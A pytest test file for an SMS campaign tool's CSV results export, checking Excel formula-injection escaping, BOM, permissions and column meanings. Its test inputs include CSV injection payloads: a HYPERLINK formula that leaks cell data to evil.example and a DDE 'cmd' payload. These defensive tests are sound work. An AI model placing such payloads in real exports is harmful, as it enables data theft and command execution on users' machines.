"""The results export: Excel-safe cells, BOM, numbers as text, 0600, columns and meanings."""

from __future__ import annotations

import csv
import io
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest

from campaigns.store.journal import Recipient
from campaigns.store.report import RESULT_COLUMNS, export, result_columns, safe_cell, write_csv

WHEN = datetime(2026, 11, 25, 16, 4, 5, 123456, tzinfo=UTC)


def recipient(row: int, to: str, fields: dict[str, str], **changes: object) -> Recipient:
    values: dict[str, object] = {
        "campaign_id": "20261125-abcdef",
        "row": row,
        "to": to,
        "body": "Hi",
        "segments": 1,
        "cost": 0.0083,
        "status": "delivered",
        "sid": "SM" + "0" * 31 + str(row % 10),
        "attempts": 1,
        "error_code": None,
        "error_message": None,
        "price": "-0.00790",
        "not_before": None,
        "attempted_at": WHEN,
        "updated_at": WHEN,
        "fields": fields,
    }
    values.update(changes)
    return Recipient(**values)  # type: ignore[arg-type]


def read_back(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://evil.example?d="&A1,"x")',
            '\'=HYPERLINK("http://evil.example?d="&A1,"x")',
        ),
        ("+1-1", "'+1-1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("+14155550100", "'+14155550100"),
        ("00447400123456", "'00447400123456"),
        ("0123", "'0123"),
        ("441234567890", "'441234567890"),
        ("-0.00790", "-0.00790"),
        ("-5", "-5"),
        ("4155550100", "4155550100"),
        ("Ann", "Ann"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (7, "7"),
        (0, "0"),
    ],
)
def test_safe_cell(cell: object, expected: str) -> None:
    assert safe_cell(cell) == expected


def test_export_writes_bom_text_numbers_and_meanings(tmp_path: Path) -> None:
    rows = [
        recipient(2, "+14155550100", {"name": "Zoë", "phone": "+1 415 555 0100"}),
        recipient(
            3,
            "+15005550004",
            {"name": '=HYPERLINK("http://x")', "phone": "5005550004"},
            status="failed",
            sid=None,
            error_code=21610,
            error_message="Attempt to send to unsubscribed recipient",
            price=None,
            updated_at=None,
        ),
        recipient(
            4,
            "+447400123456",
            {"name": "Al", "phone": "00447400123456"},
            status="skipped",
            sid=None,
            error_message="not a verified number",
            attempted_at=None,
            price=None,
        ),
    ]
    target = tmp_path / "results.csv"
    assert export(rows, target) == 3
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in raw
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    table = read_back(target)
    assert table[0] == ["name", "phone", *RESULT_COLUMNS]
    first, second, third = (dict(zip(table[0], line, strict=True)) for line in table[1:])
    assert first["name"] == "Zoë"
    assert first["phone"] == "'+1 415 555 0100"
    assert first["E.164"] == "'+14155550100"
    assert first["Status"] == "delivered" and first["Row"] == "2"
    assert first["Price"] == "-0.00790"
    assert first["Sent at (UTC)"] == "2026-11-25 16:04:05"
    assert second["name"] == '\'=HYPERLINK("http://x")'
    assert second["Error code"] == "21610"
    assert second["Error meaning"] == "The recipient has opted out (replied STOP)."
    assert second["Detail"] == "Attempt to send to unsubscribed recipient"
    assert second["Message SID"] == "" and second["Updated at (UTC)"] == ""
    assert third["phone"] == "'00447400123456"
    assert third["Error meaning"] == "" and third["Detail"] == "not a verified number"
    for line in table[1:]:
        for value in line:
            assert not value or value[0] not in "=+@\t\r" or value.startswith("'")
            assert not value.startswith("-") or value == "-0.00790"


def test_an_unknown_error_code_keeps_twilios_text(tmp_path: Path) -> None:
    rows = [recipient(2, "+14155550100", {"phone": "x"}, error_code=99999, error_message="odd")]
    export(rows, tmp_path / "r.csv")
    header, line = read_back(tmp_path / "r.csv")
    got = dict(zip(header, line, strict=True))
    assert got["Error code"] == "99999" and got["Error meaning"] == "" and got["Detail"] == "odd"


def test_contact_columns_that_clash_with_ours_are_kept_and_ours_renamed() -> None:
    assert result_columns(["Status", "phone"])[:4] == ["Status", "phone", "Row", "E.164"]
    assert "Status (smscast)" in result_columns(["Status"])


def test_columns_can_be_given_and_missing_fields_are_blank(tmp_path: Path) -> None:
    rows = [recipient(2, "+14155550100", {"phone": "+14155550100"})]
    export(rows, tmp_path / "r.csv", columns=["name", "phone"])
    header, line = read_back(tmp_path / "r.csv")
    assert header[:2] == ["name", "phone"] and line[0] == ""


def test_export_overwrites_an_existing_file_and_makes_it_0600(tmp_path: Path) -> None:
    target = tmp_path / "r.csv"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o644)
    export([recipient(2, "+14155550100", {"phone": "p"})], target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert "old" not in target.read_text(encoding="utf-8-sig")
    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]  # no temporary left behind


def test_stdout_gets_plain_utf8(capsys: pytest.CaptureFixture[str]) -> None:
    assert write_csv("-", ["a", "b"], [["=1", "+1"]]) == 1
    out = capsys.readouterr().out
    assert out == "a,b\r\n'=1,'+1\r\n"


def test_a_failing_row_source_leaves_no_file(tmp_path: Path) -> None:
    def rows():
        yield ["ok"]
        raise RuntimeError("journal went away")

    target = tmp_path / "r.csv"
    with pytest.raises(RuntimeError):
        write_csv(target, ["a"], rows())
    assert list(tmp_path.iterdir()) == []


def test_an_unwritable_place_is_an_input_error(tmp_path: Path) -> None:
    from campaigns.errors import InputError

    with pytest.raises(InputError, match="Cannot write"):
        write_csv(tmp_path / "no" / "such" / "dir" / "r.csv", ["a"], [])
    (tmp_path / "taken").mkdir()
    with pytest.raises(InputError, match="Cannot write"):
        write_csv(tmp_path / "taken", ["a"], [])
    assert [p.name for p in tmp_path.iterdir()] == ["taken"]
